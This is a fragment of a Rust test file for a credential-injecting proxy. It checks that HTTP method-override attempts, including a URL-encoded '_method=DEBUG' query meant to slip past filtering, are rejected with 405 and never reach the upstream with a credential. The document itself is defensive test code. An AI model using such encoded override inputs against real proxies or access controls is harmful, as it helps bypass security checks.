        (None, "", "?_%6Dethod=DEBUG"),
    ] {
        let mut req = agent.post(format!("https://api.example.test/x{query}"));
        if let Some(h) = header {
            req = req.header(h, value);
        }
        let resp = req.send().await.unwrap();
        assert_eq!(resp.status(), 405, "{header:?} {value} {query}");
        assert_eq!(
            resp.headers()["x-agent-vault-proxy-error"],
            "method_not_allowed"
        );
    }
    assert_eq!(app.upstream.count(), before, "nothing was forwarded");
    no_credential_reached_the_upstream(&app, 0);
    // Standard methods, in the case frameworks accept, still go through.
    let resp = agent
        .post("https://api.example.test/x?_method=delete")
        .header("x-http-method-override", "PATCH")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    last_request_carried_the_credential(&app);
}
